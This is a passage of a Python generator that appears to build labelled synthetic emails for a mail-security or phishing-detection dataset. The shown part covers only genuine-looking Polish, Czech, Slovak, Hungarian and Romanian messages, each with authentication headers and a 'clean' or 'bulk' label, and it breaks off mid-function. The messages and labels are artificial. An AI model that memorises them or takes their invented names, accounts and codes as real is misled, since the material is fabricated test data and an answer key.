    pdf = F.pdf(["ALU-PROFIL Sp. z o.o.", "Oferta handlowa nr OF/1187/2025", "Profil aluminiowy 40x40 - 120 mb - 31,50 zl/mb netto",
                 "Profil aluminiowy 40x80 - 60 mb - 54,20 zl/mb netto", "Termin realizacji: 10 dni roboczych",
                 "Waznosc oferty: 30 dni"], title="Oferta OF/1187/2025")
    plain = ("Dzień dobry Panie Łukaszu,\n\ndziękuję za zapytanie. W załączniku przesyłam ofertę OF/1187/2025 na "
             "profile 40x40 i 40x80 (anodowane, 6 m). Przy zamówieniu powyżej 150 mb możemy zaproponować dodatkowy "
             "rabat 3%.\nTermin realizacji to ok. 10 dni roboczych od potwierdzenia.\n\nW razie pytań jestem do dyspozycji.\n\n"
             "Pozdrawiam\nRafał Górski\nDział Handlowy\nALU-PROFIL Sp. z o.o.\ntel. +48 604 218 773\n\n"
             "W dniu 07.10.2025 o 15:12, Łukasz Bednarek pisze:\n> Dzień dobry,\n> prosimy o ofertę na profile "
             "aluminiowe 40x40 (120 mb) oraz 40x80 (60 mb), anodowane.\n> Dostawa do Gniezna.\n>\n> Pozdrawiam\n"
             "> Łukasz Bednarek\n> EKOSPAN\n")
    top = [f"Date: {rfc(sent)}", "MIME-Version: 1.0", "User-Agent: Mozilla Thunderbird",
           f"Subject: {ew('Re: Zapytanie ofertowe – profile aluminiowe')}", f"To: {addr('Łukasz Bednarek', rcpt)}",
           f"References: {earlier}", f"Content-Language: pl", f"From: {addr('Rafał Górski', a.mailfrom)}",
           f"In-Reply-To: {earlier}", f"Message-ID: <{uid(stem + 'tb')}@{dom}>", "Organization: ALU-PROFIL Sp. z o.o."]
    body = Multi("mixed", "------------" + an(stem + "tbb", 24),
                 [Leaf("text/plain", plain.encode(), "8bit", '; charset=UTF-8; format=flowed'),
                  attachment("application/pdf", "Oferta_OF_1187_2025.pdf", pdf)])
    add(stem, "clean", "Genuine supplier reply (Thunderbird, home.pl, aligned DKIM) to a quote request, with a PDF offer "
        "and the quoted original message.", head("postfix:mail.ekospan.pl:1", a, rcpt, sent, stem,
                                                 [dkim_sig(dom, "default", stem, sent=sent)], top), body)


def legit_pl_list() -> None:
    stem = "b48-legit-pl-mailing-list"
    sent = T("2025-01-21 22:40:17 +0100")
    rcpt = "d.michalski@gmail.com"
    listdom = "lists.linux.org.pl"
    a = Auth(ip=f"195.149.{num(stem, 224, 231)}.{num(stem + 'b', 2, 250)}", helo=f"mail.{listdom}", rdns=f"mail.{listdom}",
             mailfrom=f"plug-bounces@{listdom}", hfrom=listdom, spf="pass",
             dkim=((listdom, "mm3", "pass"), ("poczta.onet.pl", "2011", "fail")), dmarc="pass", policy="none")
    plain = ("W dniu 21.01.2025 o 19:03, Krzysztof pisze:\n> Czy ktoś przechodził już z Debiana 12 na 13 na serwerze z "
             "ZFS-em? Boję się o moduły DKMS.\n\nRobiłem to w zeszłym tygodniu na dwóch maszynach. Przed upgradem "
             "zainstaluj zfs-dkms z backports, żeby wersja modułu pasowała do nowego jądra, i zrób snapshot "
             "rpool/ROOT. Potem zwykłe apt full-upgrade, po restarcie `zpool upgrade` dopiero jak wszystko działa.\n\n"
             "Jedyny problem miałem z initramfs – trzeba było ręcznie odpalić update-initramfs -u -k all.\n\n"
             "Pozdrawiam\nAdam\n\n_______________________________________________\n"
             "PLUG mailing list -- plug@lists.linux.org.pl\nTo unsubscribe send an email to plug-leave@lists.linux.org.pl\n")
    top = [f"From: {addr('Adam Sobczak via PLUG', 'plug@' + listdom)}", f"To: {addr('', 'plug@' + listdom)}",
           f"Subject: {ew('[PLUG] Re: Upgrade Debian 12 -> 13 z ZFS na root')}", f"Date: {rfc(sent)}",
           f"Message-ID: <{uid(stem + 'tb')}@onet.pl>", f"In-Reply-To: <{uid(stem + 'prev')}@gmail.com>",
           f"References: <{uid(stem + 'prev')}@gmail.com>", "MIME-Version: 1.0", "User-Agent: Mozilla Thunderbird",
           "Content-Language: pl", f"Reply-To: {addr('Adam Sobczak', 'adam.sobczak@onet.pl')}",
           "X-Mailman-Version: 3.3.9", "Precedence: list", f"List-Id: {addr('Polish Linux User Group', 'plug.' + listdom)}",
           f"Archived-At: <https://{listdom}/archives/list/plug@{listdom}/message/{HX(stem + 'arch', 32)}/>",
           f"List-Archive: <https://{listdom}/archives/list/plug@{listdom}/>",
           f"List-Help: <mailto:plug-request@{listdom}?subject=help>", f"List-Owner: <mailto:plug-owner@{listdom}>",
           f"List-Post: <mailto:plug@{listdom}>", f"List-Subscribe: <mailto:plug-join@{listdom}>",
           f"List-Unsubscribe: <mailto:plug-leave@{listdom}>"]
    hops = [dkim_sig(listdom, "mm3", stem, sent=sent), dkim_sig("poczta.onet.pl", "2011", stem + "o", sent=sent),
            hop(f"mail.{listdom}", "127.0.0.1", f"mail.{listdom}", sent, stem, rdns="localhost", via="ESMTP", offset=-1)]
    add(stem, "bulk", "Genuine Mailman 3 mailing-list post (Polish Linux user group) with From rewritten to the list, "
        "list headers and the original onet.pl DKIM broken by the footer.",
        head("gmail", a, rcpt, sent, stem, hops, top), Leaf("text/plain", plain.encode(), "8bit", '; charset="utf-8"; format=flowed'))


# ================================================================ legitimate: Czechia, Slovakia, Hungary


def legit_cz_george() -> None:
    stem = "b48-legit-cz-george-prihlaseni"
    sent = T("2025-01-27 21:34:02 +0100")
    rcpt = "jana.dvorakova@seznam.cz"
    dom = "csas.cz"
    a = Auth(ip=f"193.85.{num(stem, 50, 60)}.{num(stem + 'b', 10, 90)}", helo=f"smtp{num(stem, 1, 4)}.csas.cz",
             rdns=f"smtp{num(stem, 1, 4)}.csas.cz", mailfrom=f"george@{dom}", hfrom=dom, spf="pass",
             dkim=((dom, "csas1", "pass"),), dmarc="pass", policy="reject")
    html = esp_html("cs", "George", "George", "#2870ed", [
        "Dobrý den,",
        "do Vašeho George jste se právě přihlásili z nového zařízení: <b>Chrome, Windows</b>, 27. 1. 2025 ve 21:33.",
        "Pokud jste to byli Vy, nemusíte nic dělat.",
        "Pokud ne, co nejdříve nám zavolejte na <b>800 207 207</b> – přístup Vám zablokujeme. Nikdy nikomu "
        "nesdělujte přihlašovací údaje ani kódy z George klíče, a to ani „pracovníkům banky“ nebo „policie“.",
    ], footer=["Česká spořitelna, a.s., Budějovická 1518/13a,b, 140 00 Praha 4, IČO: 45244782",
               'Toto je automaticky generovaný e-mail. <a href="https://www.csas.cz/cs/bezpecnost">Bezpečnost na csas.cz</a>'])
    plain = strip_html(html)
    top = [f"From: {addr('George – Česká spořitelna', a.mailfrom)}", f"To: {rcpt}",
           f"Subject: {ew('Přihlášení do George z nového zařízení')}", f"Date: {rfc(sent)}",
           f"Message-ID: <{hx(stem + 'm', 32)}@csas.cz>", "MIME-Version: 1.0"]
    body = alt(f"----=_Part_{num(stem + 'p', 100000, 999999)}_{num(stem + 'p2', 100000000, 999999999)}.{int(sent.timestamp())}{num(stem + 'p3', 100, 999)}",
               qp(plain), qp(html, "html"))
    add(stem, "bulk", "Genuine Česká spořitelna George 'sign-in from a new device' alert with the real hotline and no "
        "login link, fully aligned.", head("seznam", a, rcpt, sent, stem, [dkim_sig(dom, "csas1", stem, sent=sent)], top), body)


def legit_cz_fakturoid() -> None:
    stem = "b48-legit-cz-fakturoid-isdoc"
    sent = T("2025-04-10 09:15:22 +0200")
    rcpt = "fakturace@drevotex.cz"
    dom = "fakturoid.cz"
    a = Auth(ip=f"159.135.{num(stem, 224, 239)}.{num(stem + 'b', 2, 250)}", helo=f"m{num(stem, 100, 250)}-{num(stem + 'h', 10, 99)}.mailgun.net",
             rdns=f"m{num(stem, 100, 250)}-{num(stem + 'h', 10, 99)}.mailgun.net",
             mailfrom=f"bounce+{hx(stem + 'b', 6)}.{hx(stem + 'b2', 6)}-{rcpt.replace('@', '=')}@mg.{dom}", hfrom=dom, spf="pass",
             dkim=((dom, "mx", "pass"),), dmarc="pass", policy="quarantine")
    number = "2025-0361"
    pdf = F.pdf(["KOVO Pilarik s.r.o., Kovarska 12, 500 03 Hradec Kralove, ICO 27481255", f"Faktura {number}",
                 "Odberatel: DREVOTEX s.r.o.", "Obrabeni dilu dle objednavky OBJ-25-088", "Celkem k uhrade: 48 279,00 Kc",
                 "Splatnost: 24. 4. 2025", "Ucet: 1958203004/0800"], title=f"Faktura {number}")
    isdoc = ('<?xml version="1.0" encoding="UTF-8"?>\n<Invoice xmlns="http://isdoc.cz/namespace/2013" version="6.0.2">\n'
             '  <DocumentType>1</DocumentType>\n  <ID>' + number + '</ID>\n  <UUID>' + uid(stem + "isdoc").upper() + '</UUID>\n'
             '  <IssueDate>2025-04-10</IssueDate>\n  <TaxPointDate>2025-04-10</TaxPointDate>\n  <VATApplicable>true</VATApplicable>\n'
             '  <LocalCurrencyCode>CZK</LocalCurrencyCode>\n  <CurrRate>1</CurrRate>\n  <RefCurrRate>1</RefCurrRate>\n'
             '  <AccountingSupplierParty><Party><PartyIdentification><ID>27481255</ID></PartyIdentification>'
             '<PartyName><Name>KOVO Pilařík s.r.o.</Name></PartyName></Party></AccountingSupplierParty>\n'
             '  <AccountingCustomerParty><Party><PartyName><Name>DREVOTEX s.r.o.</Name></PartyName></Party></AccountingCustomerParty>\n'
             '  <LegalMonetaryTotal><TaxExclusiveAmount>39900.00</TaxExclusiveAmount><TaxInclusiveAmount>48279.00</TaxInclusiveAmount>'
             '<PayableAmount>48279.00</PayableAmount></LegalMonetaryTotal>\n'
             '  <PaymentMeans><Payment><PaidAmount>48279.00</PaidAmount><PaymentMeansCode>42</PaymentMeansCode><Details>'
             '<PaymentDueDate>2025-04-24</PaymentDueDate><ID>1958203004</ID><BankCode>0800</BankCode>'
             '<VariableSymbol>20250361</VariableSymbol></Details></Payment></PaymentMeans>\n</Invoice>\n')
    link = f"https://app.fakturoid.cz/kovopilarik/p/{an(stem + 'pub', 10)}/{number}"
    plain = (f"Dobrý den,\n\nv příloze zasíláme fakturu č. {number} na částku 48 279,00 Kč se splatností 24. 4. 2025.\n"
             f"Fakturu si můžete také zobrazit online: {link}\n\nPlatební údaje:\nČíslo účtu: 1958203004/0800\n"
             "Variabilní symbol: 20250361\n\nDěkujeme za spolupráci.\n\nKOVO Pilařík s.r.o.\nLenka Marešová\n\n--\n"
             "Faktura byla vystavena a odeslána pomocí Fakturoid.cz\n")
    html = esp_html("cs", f"Faktura {number}", "KOVO Pilařík s.r.o.", "#1b8755", [
        "Dobrý den,", f"v příloze zasíláme fakturu č. <b>{number}</b> na částku <b>48 279,00 Kč</b> se splatností 24. 4. 2025.",
        "Platební údaje:<br>Číslo účtu: 1958203004/0800<br>Variabilní symbol: 20250361",
    ], ("Zobrazit fakturu online", link), footer=["Faktura byla vystavena a odeslána pomocí Fakturoid.cz"],
        after=["Děkujeme za spolupráci.<br>KOVO Pilařík s.r.o.<br>Lenka Marešová"])
    top = ["Mime-Version: 1.0", f"Date: {rfc(sent)}", f"From: {addr('KOVO Pilařík s.r.o.', 'faktury@fakturoid.cz')}",
           f"Reply-To: {addr('Lenka Marešová', 'lenka.maresova@kovopilarik.cz')}", f"To: {rcpt}",
           f"Message-ID: <{hx(stem + 'm', 24)}_{num(stem + 'mm', 1000, 9999)}@fakturoid.cz>",
           f"Subject: {ew('Faktura č. ' + number + ' od KOVO Pilařík s.r.o.')}", f"X-Mailgun-Sid: {b64s(stem + 'sid', 60)}"]
    body = Multi("mixed", f"--==_mimepart_{hx(stem + 'mp', 13)}_{num(stem + 'mp2', 100, 999)}",
                 [alt(f"--==_mimepart_{hx(stem + 'mp3', 13)}_{num(stem + 'mp4', 100, 999)}", qp(plain), qp(html, "html")),
                  attachment("application/pdf", f"faktura-{number}.pdf", pdf),
                  attachment("application/xml", f"faktura-{number}.isdoc", isdoc.encode())])
    add(stem, "bulk", "Genuine supplier invoice sent through Fakturoid (Mailgun, aligned DKIM) with PDF and ISDOC "
        "attachments, the supplier's usual bank account and Reply-To the real supplier domain.",
        head("postfix:mail.drevotex.cz:1", a, rcpt, sent, stem, [dkim_sig(dom, "mx", stem, sent=sent)], top), body)


def legit_cz_zasilkovna() -> None:
    stem = "b48-legit-cz-zasilkovna-vyzvednuti"
    sent = T("2025-08-13 08:21:44 +0200")
    rcpt = "petr.svoboda@centrum.cz"
    dom = "zasilkovna.cz"
    a = Auth(ip=f"185.117.{num(stem, 236, 239)}.{num(stem + 'b', 10, 200)}", helo=f"mailer{num(stem, 1, 9)}.packeta.com",
             rdns=f"mailer{num(stem, 1, 9)}.packeta.com", mailfrom=f"bounce@notify.{dom}", hfrom=dom, spf="pass",
             dkim=((dom, "pkt1", "pass"),), dmarc="pass", policy="quarantine")
    html = esp_html("cs", "Zásilka je připravena", "Zásilkovna", "#ba1b02", [
        "Dobrý den,",
        "Vaše zásilka <b>Z 3019 4472 81</b> od <b>Notino.cz</b> je připravena k vyzvednutí na výdejním místě:",
        "<b>Z-BOX Praha 9, Prosek – Vysočanská 587</b><br>Kód pro vyzvednutí: <b>418 207</b>",
        "Zásilku si vyzvedněte nejpozději do <b>20. 8. 2025</b>. Z-BOX otevřete v aplikaci Zásilkovna "
        "přes Bluetooth nebo zadáním kódu.",
    ], ("Sledovat zásilku", "https://tracking.packeta.com/cs/?id=Z3019447281"),
        footer=["Zásilkovna s.r.o., Českomoravská 2408/1a, 190 00 Praha 9",
                "Zásilkovna Vás nikdy nežádá o doplatky za dopravu e-mailem ani SMS."])
    plain = strip_html(html)
    top = [f"From: {addr('Zásilkovna', 'info@' + dom)}", f"To: {rcpt}",
           f"Subject: {ew('Zásilka Z 3019 4472 81 je připravena k vyzvednutí')}", f"Date: {rfc(sent)}",
           f"Message-ID: <{hx(stem + 'm', 32)}@notify.zasilkovna.cz>", "MIME-Version: 1.0"]
    body = alt(f"=_{hx(stem + 'b', 32)}", qp(plain), qp(html, "html"))
    add(stem, "bulk", "Genuine Zásilkovna/Packeta 'ready for pickup' notice with Z-BOX pickup code and a tracking link "
        "on packeta.com.", head("centrum", a, rcpt, sent, stem, [dkim_sig(dom, "pkt1", stem, sent=sent)], top), body)


def legit_cz_sharepoint() -> None:
    stem = "b48-legit-cz-sharepoint-sdileni"
    sent = T("2025-06-18 13:02:40 +0200")
    rcpt = "l.horakova@stavby-hradec.cz"
    a = Auth(ip=f"40.107.{num(stem, 1, 250)}.{num(stem + 'b', 1, 250)}", helo=f"EUR0{num(stem, 1, 5)}-DB5-obe.outbound.protection.outlook.com",
             rdns=f"mail-db5eur0{num(stem, 1, 5)}on20{num(stem + 'o', 600, 730)}.outbound.protection.outlook.com",
             mailfrom="no-reply@sharepointonline.com", hfrom="sharepointonline.com", spf="pass",
             dkim=(("sharepointonline.com", "selector1", "pass"),), dmarc="pass", policy="reject")
    link = (f"https://stavbyhradec.sharepoint.com/:x:/s/Projekty/E{an(stem + 'sp', 46)}?e={an(stem + 'e', 6)}")
    fname = "Rozpočet_BD_Slezské_Předměstí_v3.xlsx"
    html = (
        '<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>'
        '<body><table width="100%" cellpadding="0" cellspacing="0" style="font-family:Segoe UI,sans-serif">'
        '<tr><td style="padding:24px">'
        '<div style="font-size:21px;color:#323130">Tomáš Kratochvíl s vámi sdílí soubor</div>'
        '<div style="padding:16px 0;font-size:14px;color:#323130">Lucie, tady je aktualizovaný rozpočet, změny '
        'jsou v listu Elektro. Probereme ve čtvrtek na KD.</div>'
        f'<table style="border:1px solid #edebe9;width:420px"><tr><td style="padding:12px">'
        f'<a href="{link}" style="color:#0078d4;font-size:15px;text-decoration:none">{fname}</a></td></tr></table>'
        f'<div style="padding-top:18px"><a href="{link}" style="background:#0078d4;color:#fff;padding:9px 18px;'
        'text-decoration:none;font-size:14px">Otevřít</a></div>'
        '<div style="padding-top:28px;font-size:11px;color:#605e5c">Tento odkaz bude fungovat jenom pro lidi ve '
        'společnosti Stavby Hradec s.r.o.</div>'
        '<div style="padding-top:14px;font-size:11px;color:#605e5c">Zásady ochrany osobních údajů společnosti Microsoft</div>'
        '</td></tr></table></body></html>\n')
    plain = (f"Tomáš Kratochvíl s vámi sdílí soubor\n\nLucie, tady je aktualizovaný rozpočet, změny jsou v listu Elektro. "
             f"Probereme ve čtvrtek na KD.\n\n{fname}\n{link}\n\nTento odkaz bude fungovat jenom pro lidi ve "
             "společnosti Stavby Hradec s.r.o.\n")
    top = [f"From: {addr('Tomáš Kratochvíl', 'no-reply@sharepointonline.com')}", f"To: {rcpt}",
           f"Subject: {ew('Tomáš Kratochvíl s vámi sdílí soubor „' + fname + '“')}",
           f"Date: {rfc(sent)}", f"Message-ID: <{uid(stem + 'spmid')}@odspnotify>", "MIME-Version: 1.0",
           f"Reply-To: {addr('Tomáš Kratochvíl', 't.kratochvil@stavby-hradec.cz')}", "X-MS-Exchange-Organization-SharePoint: true"]
    body = alt(f"_{hx(stem + 'b', 8)}-{hx(stem + 'b2', 4)}-{hx(stem + 'b3', 4)}_", qp(plain), qp(html, "html"))
    add(stem, "bulk", "Genuine SharePoint Online sharing notification from a colleague in the same company tenant "
        "(a budget spreadsheet on the company's own SharePoint site).",
        head("m365", a, rcpt, sent, stem, [dkim_sig("sharepointonline.com", "selector1", stem, sent=sent)], top), body)


def legit_sk_photos() -> None:
    stem = "b48-legit-sk-fotky-chata"
    sent = T("2025-08-25 20:47:15 +0200")
    rcpt = "zuzana.hornakova@gmail.com"
    user = "peter.hornak.za@gmail.com"
    a = gmail_sender_auth(user, stem)
    plain = ("Ahoj Zuzka,\n\nposielam fotky z chaty v Liptovskom Jáne, ostatné dám na Google Fotky, keď sa dostanem "
             "k počítaču. Mama sa pýta, či prídete na Vianoce k nám alebo ideme my k vám?\n\nA nezabudni, že v "
             "septembri treba zaplatiť ten poplatok za chatu – 85 € na účet pána Ďuricu, číslo ti pošlem.\n\n"
             "Maj sa\nPeťo\n")
    html = gmail_html(["Ahoj Zuzka,", "", "posielam fotky z chaty v Liptovskom Jáne, ostatné dám na Google Fotky, keď "
                       "sa dostanem k počítaču. Mama sa pýta, či prídete na Vianoce k nám alebo ideme my k vám?", "",
                       "A nezabudni, že v septembri treba zaplatiť ten poplatok za chatu – 85 € na účet pána Ďuricu, "
                       "číslo ti pošlem.", "", "Maj sa", "Peťo"])
    top = ["MIME-Version: 1.0", f"From: {addr('Peter Horňák', user)}", f"Date: {rfc(sent)}",
           f"Message-ID: {msgid_gmail(stem)}", f"Subject: {ew('Fotky z chaty')}", f"To: {addr('Zuzana Horňáková', rcpt)}"]
    body = Multi("mixed", gmail_boundary(stem + "m"),
                 [alt(gmail_boundary(stem), qp(plain), qp(html, "html")),
                  Leaf("image/jpeg", F.photo_jpeg(48), "base64", '; name="IMG_20250823_181204.jpg"',
                       'attachment; filename="IMG_20250823_181204.jpg"', [f"Content-ID: <f_m{lo(stem + 'c1', 9)}0>",
                                                                         f"X-Attachment-Id: f_m{lo(stem + 'c1', 9)}0"]),
                  Leaf("image/jpeg", F.photo_jpeg(49), "base64", '; name="IMG_20250824_094511.jpg"',
                       'attachment; filename="IMG_20250824_094511.jpg"', [f"Content-ID: <f_m{lo(stem + 'c2', 9)}1>",
                                                                         f"X-Attachment-Id: f_m{lo(stem + 'c2', 9)}1"])])
    hops = gmail_sender_hops(stem, sent)
    add(stem, "clean", "Genuine Slovak family email from Gmail with two holiday photos attached and a mention of a fee "
        "to pay.", head("gmail", a, rcpt, sent, stem, hops, top), body)


def legit_hu_otp() -> None:
    stem = "b48-legit-hu-otp-ertesites"
    sent = T("2025-05-21 10:30:00 +0200")
    rcpt = "kovacs.zsuzsanna@freemail.hu"
    dom = "otpbank.hu"
    sub = "hirlevel.otpbank.hu"
    cs = "iso-8859-2"
    a = sfmc_auth(stem, dom, sub, "reject", "13.111")
    html = esp_html("hu", "OTP Bank", "OTP Bank", "#52ae30", [
        "Tisztelt Ügyfelünk!",
        "Tájékoztatjuk, hogy 2025. július 1-jétől módosul a Lakossági Bankszámla Üzletszabályzat és a "
        "Hirdetmény. A változások érintik a nemzetközi átutalások díjait és az OTP InternetBank funkcióit.",
        'A módosított dokumentumokat megtalálja honlapunkon: <a href="https://click.hirlevel.otpbank.hu/?qs='
        + hx(stem + "q", 80) + '">www.otpbank.hu/portal/hu/Hirdetmenyek</a>',
        "Biztonsági figyelmeztetés: az OTP Bank soha nem kéri e-mailben vagy telefonon az InternetBank "
        "azonosítóját, jelszavát vagy a kártyaadatait.",
    ], footer=["OTP Bank Nyrt., 1051 Budapest, Nádor u. 16. | OTPdirekt: +36 1/20/30/70 3 666 666",
               "Ezt a levelet azért kapta, mert az OTP Bank ügyfele. Kérjük, erre a levélre ne válaszoljon."]).replace(
        "charset=utf-8", f"charset={cs}")
    plain = strip_html(html)
    top = [f"From: {addr('OTP Bank', 'ertesites@' + sub)}", f"To: {rcpt}",
           f"Subject: {ew('Tájékoztatás az Üzletszabályzat módosításáról', cs, 'Q')}", *sfmc_top(stem, sub, sent),
           "MIME-Version: 1.0", f"List-Unsubscribe: <https://cloud.{sub}/unsub?qs={hx(stem + 'u', 40)}>"]
    body = alt(f"----=_Part_{num(stem + 'a', 1000000, 9999999)}_{num(stem + 'a2', 1000000, 9999999)}",
               qp(plain, charset=cs), qp(html, "html", cs))
    add(stem, "bulk", "Genuine OTP Bank notice of terms-and-conditions changes (ISO-8859-2, Salesforce Marketing Cloud on "
        "the bank's subdomain) with a tracked link to otpbank.hu.",
        head("freemail", a, rcpt, sent, stem, [dkim_sig(sub, "200608", stem, sent=sent)], top), body)


def legit_hu_nav() -> None:
    stem = "b48-legit-hu-nav-tarhely"
    sent = T("2025-04-15 14:22:31 +0200")
    rcpt = "nagy.balazs.bp@gmail.com"
    dom = "magyarorszag.hu"
    a = Auth(ip=f"84.206.{num(stem, 10, 30)}.{num(stem + 'b', 10, 200)}", helo=f"mx{num(stem, 1, 4)}.magyarorszag.hu",
             rdns=f"mx{num(stem, 1, 4)}.magyarorszag.hu", mailfrom=f"noreply@{dom}", hfrom=dom, spf="pass",
             dkim=((dom, "kr2024", "pass"),), dmarc="pass", policy="reject")
    plain = ("Tisztelt Nagy Balázs!\n\nÉrtesítjük, hogy Önnek új dokumentuma érkezett az Értesítési tárhelyére.\n\n"
             "Feladó: Nemzeti Adó- és Vámhivatal\nTárgy: SZJA bevallási tervezet - 2024\nÉrkezett: 2025.04.15. 14:22\n"
             "Dokumentum megőrzési ideje: 2025.05.15.\n\nA dokumentumot a https://magyarorszag.hu oldalon, "
             "Ügyfélkapu+ vagy DÁP azonosítással bejelentkezve, az Értesítési tárhely menüpontban tekintheti meg.\n\n"
             "Ez egy automatikus értesítés, kérjük, ne válaszoljon rá.\n\nDigitális Kormányzati Ügynökség\n")
    top = [f"From: {addr('Értesítési tárhely', a.mailfrom)}", f"To: {rcpt}",
           f"Subject: {ew('Új dokumentum érkezett az Értesítési tárhelyére')}", f"Date: {rfc(sent)}",
           f"Message-ID: <{uid(stem + 'm')}@magyarorszag.hu>", "MIME-Version: 1.0"]
    add(stem, "bulk", "Genuine magyarorszag.hu notification that a NAV document arrived in the citizen's storage, "
        "pointing to the portal without a login link.", head("gmail", a, rcpt, sent, stem,
                                                            [dkim_sig(dom, "kr2024", stem, sent=sent)], top), qp(plain))


def legit_ro_bt() -> None:
    stem = "b48-legit-ro-bt-newsletter"
    sent = T("2025-07-10 11:00:05 +0300")
    rcpt = "andreea.popescu87@gmail.com"
    dom = "bancatransilvania.ro"
    sub = "info.bancatransilvania.ro"
    a = sfmc_auth(stem, dom, sub, "reject", "13.111")
    trk = lambda k: f"https://click.{sub}/?qs={hx(stem + k, 96)}"  # noqa: E731
    html = esp_html("ro", "BT Pay", "Banca Transilvania", "#fcb813", [
        "Salut, Andreea!",
        "Vacanța începe cu BT Pay: plătește cu telefonul în peste 150 de țări fără comision de conversie "
        "pentru cardurile Visa Classic și primești <b>5% cashback</b> la cazări rezervate prin Booking.com până "
        "pe 31 august.",
        f'<a href="{trk("a")}">Vezi detaliile campaniei</a>',
        "Și nu uita: BT nu îți cere niciodată prin e-mail, SMS sau telefon datele cardului, parolele sau codurile "
        "de autorizare.",
    ], footer=["Banca Transilvania S.A., Str. Calea Dorobanților nr. 30-36, Cluj-Napoca. Call Center: *8028.",
               f'Primești acest e-mail pentru că ești client BT. <a href="{trk("u")}">Dezabonare</a>'],
        preheader="Plătește cu telefonul în vacanță, fără comision de conversie")
    plain = strip_html(html)
    top = [f"From: {addr('Banca Transilvania', 'newsletter@' + sub)}", f"To: {rcpt}",
           f"Subject: {ew('Vacanță fără griji cu BT Pay ☀️')}", *sfmc_top(stem, sub, sent), "MIME-Version: 1.0",
           f"List-Unsubscribe: <{trk('lu')}>, <mailto:leave-{hx(stem + 'lm', 30)}@{sub}>",
           "List-Unsubscribe-Post: List-Unsubscribe=One-Click"]
    body = alt(f"----=_Part_{num(stem + 'a', 1000000, 9999999)}_{num(stem + 'a2', 1000000, 9999999)}", qp(plain), qp(html, "html"))
    add(stem, "bulk", "Genuine Banca Transilvania marketing newsletter (BT Pay cashback) via Salesforce Marketing Cloud "
        "with tracked links and one-click unsubscribe.", head("gmail", a, rcpt, sent, stem,
                                                             [dkim_sig(sub, "200608", stem, sent=sent)], top), body)


def legit_ro_fancourier() -> None:
    stem = "b48-legit-ro-fancourier-awb"
    sent = T("2025-05-28 08:02:11 +0300")
    rcpt = "mihai@mihaidumitrescu.ro"
    dom = "fancourier.ro"
    a = Auth(ip=f"54.240.{num(stem, 1, 120)}.{num(stem + 'b', 1, 250)}", helo=f"a{num(stem, 1, 9)}-{num(stem + 'h', 10, 99)}.smtp-out.eu-central-1.amazonses.com",
             rdns=f"a{num(stem, 1, 9)}-{num(stem + 'h', 10, 99)}.smtp-out.eu-central-1.amazonses.com",
             mailfrom=f"010701{hx(stem + 's', 10)}-{uid(stem + 's2')}-000000@mail.{dom}", hfrom=dom, spf="pass",
             dkim=((dom, "fan1", "pass"), ("amazonses.com", "e3vmnk3ymgtl3x2yifaf6lmrzx6bc6a4", "pass")), dmarc="pass",
             policy="quarantine")
    awb = "2410857193026"
    html = esp_html("ro", "FAN Courier", "FAN Courier", "#004a99", [
        "Bună ziua,",
        f"Coletul tău cu AWB <b>{awb}</b> de la <b>eMAG Marketplace</b> este astăzi în livrare.",
        "Curierul te va contacta telefonic înainte de livrare. Ramburs de plată: <b>0,00 RON</b> (comanda a fost "
        "achitată online).",
        f'Poți urmări coletul sau schimba ziua de livrare în aplicația FANbox sau pe '
        f'<a href="https://www.fancourier.ro/awb-tracking/?tracking={awb}">fancourier.ro</a>.',
    ], footer=["FAN Courier Express SRL | Call Center: 021 9336",
               "FAN Courier nu solicită niciodată plăți suplimentare prin SMS sau e-mail pentru livrare."])
    plain = strip_html(html)
    top = [f"From: {addr('FAN Courier', 'notificari@' + dom)}", f"To: {rcpt}",
           f"Subject: {ew(f'Coletul tău cu AWB {awb} este în livrare astăzi')}", f"Date: {rfc(sent)}",
           f"Message-ID: <010701{hx(stem + 's', 10)}-{uid(stem + 's2')}-000000@eu-central-1.amazonses.com>",
           "MIME-Version: 1.0", "Feedback-ID: ::1.eu-central-1.{}:AmazonSES".format(b64s(stem + 'fb', 43))]
    body = alt(f"----=_Part_{num(stem + 'a', 1000000, 9999999)}_{num(stem + 'a2', 1000000, 9999999)}", qp(plain), qp(html, "html"))
    hops = [dkim_sig(dom, "fan1", stem, sent=sent), dkim_sig("amazonses.com", "e3vmnk3ymgtl3x2yifaf6lmrzx6bc6a4", stem + "ses", sent=sent)]
    add(stem, "bulk", "Genuine FAN Courier 'out for delivery today' notice via Amazon SES on fancourier.ro with a "
        "tracking link, cash on delivery 0 RON.", head("postfix:mail.mihaidumitrescu.ro:2", a, rcpt, sent, stem, hops, top), body)


def legit_ro_digi() -> None:
    stem = "b48-legit-ro-digi-factura"
    sent = T("2025-11-05 07:15:40 +0200")
    rcpt = "ionut.marinescu@outlook.com"
    dom = "digi.ro"
    a = Auth(ip=f"80.96.{num(stem, 1, 250)}.{num(stem + 'b', 2, 250)}", helo=f"mail-out{num(stem, 1, 6)}.rcs-rds.ro",
             rdns=f"mail-out{num(stem, 1, 6)}.rcs-rds.ro", mailfrom=f"facturi@{dom}", hfrom=dom, spf="pass",
             dkim=((dom, "digi", "pass"),), dmarc="pass", policy="quarantine")
    pdf = F.pdf(["DIGI ROMANIA S.A.", "Factura nr. DIGI2025-48213957", "Perioada: 01.10.2025 - 31.10.2025",
                 "Abonament Digi Net 1000 Mbps + Digi TV + Digi Mobil", "Total de plata: 89,25 RON", "Scadenta: 25.11.2025",
                 "Cod client: 6048217"], title="Factura Digi 10/2025")
    html = esp_html("ro", "Factura Digi", "DIGI", "#1a3d8f", [
        "Stimate client,",
        "Factura ta Digi pentru luna <b>octombrie 2025</b> a fost emisă și o găsești atașată acestui e-mail.",
        "Total de plată: <b>89,25 RON</b><br>Data scadentă: <b>25.11.2025</b><br>Cod client: 6048217",
        'Poți plăti online cu cardul în <a href="https://www.digi.ro/plata-factura">contul tău Digi</a>, în aplicația '
        "Digi Online, prin internet banking sau la orice magazin Digi.",
    ], footer=["DIGI ROMANIA S.A., Str. Dr. Staicovici nr. 75, București. Relații clienți: 031 400 4000."])
    plain = strip_html(html)
    top = [f"From: {addr('Digi', 'facturi@' + dom)}", f"To: {rcpt}",
           f"Subject: {ew('Factura ta Digi pentru octombrie 2025 este disponibilă')}", f"Date: {rfc(sent)}",
           f"Message-ID: <{num(stem + 'm', 100000000, 999999999)}.{hx(stem + 'm2', 10)}@digi.ro>", "MIME-Version: 1.0"]
    body = Multi("mixed", f"=_{hx(stem + 'b', 32)}", [alt(f"=_{hx(stem + 'b2', 32)}", qp(plain), qp(html, "html")),
                                                      attachment("application/pdf", "Factura_DIGI2025-48213957.pdf", pdf)])
